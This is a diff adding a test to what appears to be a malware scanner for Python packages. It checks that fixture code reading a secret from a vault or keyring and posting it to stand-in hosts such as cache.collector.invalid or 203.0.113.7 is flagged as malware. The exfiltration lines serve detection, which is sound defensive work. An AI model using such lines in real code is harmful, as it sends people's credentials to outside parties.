@@ -1141,3 +1141,33 @@ test('the secret half of a key of a cloud is one, whatever session it came from'
   expect(told[0]?.message).toContain('Sends credentials');
   expect(await inspect('exfiltration', wheel({ 'pkg/a.py': hook('key.method') }))).toEqual([]);
 });
+
+test('what a vault or a store of keys gave, told to another house that is asked nothing', async () => {
+  const reader = (line: string): string =>
+    python(
+      'import boto3, keyring, requests',
+      'def read(name):',
+      "    value = boto3.client('secretsmanager').get_secret_value(SecretId=name)['SecretString']",
+      `    ${line}`,
+      '    return value',
+    );
+
+  expect(
+    await inspect(
+      'exfiltration',
+      wheel({ 'pkg/a.py': reader("requests.post('https://cache.collector.invalid/w', json={'v': value})") }),
+    ),
+  ).toMatchObject([{ class: 'malware', score: 10, context: 'call', line: 4 }]);
+  expect(
+    await inspect(
+      'exfiltration',
+      wheel({ 'pkg/a.py': reader("requests.put('http://203.0.113.7/k', json=keyring.get_password('a', name))") }),
+    ),
+  ).toMatchObject([{ class: 'malware', score: 10, context: 'call', line: 4 }]);
+  expect(
+    await inspect(
+      'exfiltration',
+      wheel({ 'pkg/a.py': reader("requests.get('https://api.vendor.invalid', headers={'Authorization': value})") }),
+    ),
+  ).toEqual([]);
+});
